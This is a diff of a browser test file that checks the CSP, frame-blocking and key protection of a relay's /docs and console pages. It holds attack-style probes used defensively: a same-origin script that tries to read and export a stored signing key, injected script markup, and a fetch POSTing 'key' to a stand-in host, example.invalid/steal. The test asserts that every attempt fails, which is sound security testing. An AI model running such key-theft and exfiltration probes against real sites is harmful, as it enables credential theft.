@@ -1,13 +1,16 @@
 /**
  * /docs in a real browser (Debian's Chromium through playwright-core): the page renders the reference
  * and every request it makes on load goes to the relay itself — no CDN, fonts, proxy or telemetry host.
- * /docs/ (trailing slash) works the same. Skipped with one line where Chromium is missing (never under CI).
+ * /docs/ (trailing slash) works the same. The page shares its origin with the console: under its
+ * Content-Security-Policy it renders with no violation, a script running on it finds no readable key
+ * of the console's, injected scripts do not run, and no other site can frame it. Skipped with one
+ * line where Chromium is missing (never under CI).
  */
 import { afterAll, beforeAll, describe, expect, test } from 'bun:test'
 import { existsSync, mkdirSync } from 'node:fs'
 import { join } from 'node:path'
 import { EXAMPLE } from '../../src/http/openapi-document.ts'
-import { SCALAR_CONFIG } from '../../src/http/routes/docs.ts'
+import { DOCS_CSP, SCALAR_CONFIG } from '../../src/http/routes/docs.ts'
 import { ROOT } from '../support/binary.ts'
 import { startTestRelay, type TestRelay } from '../support/harness.ts'
 import { requireProgram } from '../support/requires.ts'
@@ -35,6 +38,19 @@ describe('/docs', () => {
     expect(html).toContain('"url":"/v1/openapi.json"') // absolute: the same document from /docs and /docs/
     expect(html.match(/https?:\/\/[^"'\s]+/g) ?? []).toEqual([])
     expect(SCALAR_CONFIG.agent.disabled).toBe(true)
+    // no inline script: the configuration is data, started by /docs/init.js
+    expect(html.match(/<script(?![^>]*\bsrc=)(?![^>]*type="application\/json")[^>]*>/g) ?? []).toEqual([])
+    for (const res of [a, b]) {
+      expect(res.headers.get('content-security-policy')).toBe(DOCS_CSP)
+      expect(res.headers.get('x-frame-options')).toBe('DENY')
+    }
+    expect(DOCS_CSP).toContain("frame-ancestors 'none'")
+    expect(DOCS_CSP).toContain("script-src 'self';")
+    expect(DOCS_CSP).toContain("connect-src 'self';")
+    expect(DOCS_CSP).not.toContain('unsafe-eval')
+    const init = await fetch(`${origin}/docs/init.js`)
+    expect([init.status, init.headers.get('content-type')]).toEqual([200, 'text/javascript; charset=utf-8'])
+    expect(await init.text()).toContain("getElementById('scalar-config')")
     const script = await fetch(`${origin}/docs/scalar.js`)
     expect(script.status).toBe(200)
     expect(script.headers.get('content-type')).toContain('javascript')
@@ -49,6 +65,8 @@ describe('/docs', () => {
         const page = await browser.newPage({ viewport: { width: 1280, height: 900 } })
         const requested: string[] = []
         page.on('request', (r) => requested.push(r.url()))
+        const violations: string[] = []
+        page.on('console', (m) => m.text().includes('Content Security Policy') && violations.push(m.text()))
         await page.goto(origin + path, { waitUntil: 'networkidle' })
         await page.getByText('Signing a request').first().waitFor({ timeout: 30_000 })
         await page.getByText('Read an agent profile').first().waitFor({ timeout: 30_000 })
@@ -61,12 +79,104 @@ describe('/docs', () => {
         expect(text).toContain(`X-M2M-Public-Key: ${EXAMPLE.publicKey}`)
         expect(text).toContain(`X-M2M-Signature: ${EXAMPLE.signature}`)
         expect(text).not.toContain('\\n')
+        expect(violations).toEqual([])
         if (path === '/docs/') {
           mkdirSync(join(ROOT, 'test-artifacts'), { recursive: true })
           await page.screenshot({ path: join(ROOT, 'test-artifacts', 'docs.png') })
         }
         await page.close()
       }
+    } finally {
+      await browser.close()
+    }
+  }, 120_000)
+
+  test.skipIf(!hasChromium)("a script on /docs cannot read the console's key, injected scripts do not run, and no other site can frame it", async () => {
+    const { chromium } = await import('playwright-core')
+    const browser = await chromium.launch({ executablePath: CHROMIUM, args: ['--no-sandbox'] })
+    try {
+      const context = await browser.newContext()
+      const page = await context.newPage()
+      page.on('dialog', (d) => void d.accept())
+      // the console makes a key on this origin and keeps it
+      await page.goto(`${origin}/console`)
+      await page.getByRole('button', { name: 'Generate a new key' }).click()
+      await page.getByRole('button', { name: 'Export key file' }).waitFor()
+      const publicKey = (await page.locator('main code[title]').getAttribute('title')) as string
+      expect(publicKey).toMatch(/^[A-Za-z0-9_-]{43}$/)
+
+      // a script on /docs, same origin, looks for it everywhere a page can
+      await page.goto(`${origin}/docs`)
+      await page.getByText('Signing a request').first().waitFor({ timeout: 30_000 })
+      const found = await page.evaluate(async () => {
+        const { document, indexedDB, localStorage, sessionStorage } = globalThis as any // runs in the page (the project's types have no DOM)
+        const storage = [...Object.values(localStorage as object), ...Object.values(sessionStorage as object), document.cookie].join('\n')
+        const record: any = await new Promise((resolve, reject) => {
+          const open = indexedDB.open('agent-relay-console')
+          open.onerror = () => reject(open.error)
+          open.onsuccess = () => {
+            const get = open.result.transaction('keys').objectStore('keys').get('current')
+            get.onsuccess = () => resolve(get.result)
+            get.onerror = () => reject(get.error)
+          }
+        })
+        const key = record.signing_key as CryptoKey
+        const tries: string[] = []
+        for (const format of ['pkcs8', 'jwk', 'raw'] as const) {
+          try {
+            await crypto.subtle.exportKey(format, key)
+            tries.push(`${format}: exported`)
+          } catch (err) {
+            tries.push(`${format}: ${(err as Error).name}`)
+          }
+        }
+        return { storage, publicKey: record.public_key, extractable: key.extractable, type: key.type, tries, keys: Object.keys(record).sort() }
+      })
+      expect(found.publicKey).toBe(publicKey)
+      expect(found.keys).toEqual(['public_key', 'saved_at', 'signing_key'])
+      expect([found.type, found.extractable]).toEqual(['private', false])
+      expect(found.tries).toEqual(['pkcs8: InvalidAccessError', 'jwk: InvalidAccessError', 'raw: InvalidAccessError'])
+      expect(found.storage).not.toContain('private_key')
+
+      // injected markup cannot run script or send anything to another host
+      const injected = await page.evaluate(async () => {
+        const w = globalThis as any
+        const { document } = w
+        document.body.insertAdjacentHTML('beforeend', '<img src="data:," onload="window.__ran = 1" onerror="window.__ran = 2">')
+        const s = document.createElement('script')
+        s.textContent = 'window.__ran2 = 1'
+        document.body.appendChild(s)
+        let sent = 'sent'
+        await fetch('http://example.invalid/steal', { method: 'POST', body: 'key' }).catch((err) => (sent = (err as Error).name))
+        await new Promise((r) => setTimeout(r, 200))
+        return { ran: w.__ran ?? null, ran2: w.__ran2 ?? null, sent }
+      })
+      expect(injected).toEqual({ ran: null, ran2: null, sent: 'TypeError' })
+
+      // another site frames /docs and /console: refused; a page without frame-ancestors (the control) loads
+      // (served from loopback too, on another port: another origin, and no private-network block in the way)
+      const framer = Bun.serve({
+        hostname: '127.0.0.1',
+        port: 0,
+        fetch: () =>
+          new Response(`<iframe name="docs" src="${origin}/docs"></iframe><iframe name="console" src="${origin}/console"></iframe><iframe name="control" src="${origin}/v1/health"></iframe>`, {
+            headers: { 'content-type': 'text/html' },
+          }),
+      })
+      await page.goto(`http://127.0.0.1:${framer.port}/`)
+      await page.waitForTimeout(1500)
+      const framed = Object.fromEntries(
+        await Promise.all(
+          page.frames().filter((f) => f !== page.mainFrame()).map(async (f) => [f.name(), await f.evaluate(() => (globalThis as any).document.body?.innerText.slice(0, 40) ?? '').catch(() => 'unreachable')] as const),
+        ),
+      )
+      expect(framed.control).toContain('ok')
+      for (const name of ['docs', 'console']) {
+        expect(framed[name]).not.toContain('Agent Relay')
+        expect(page.frame({ name })?.url()).toBe('chrome-error://chromewebdata/')
+      }
+      framer.stop(true)
+      await context.close()
     } finally {
       await browser.close()
     }
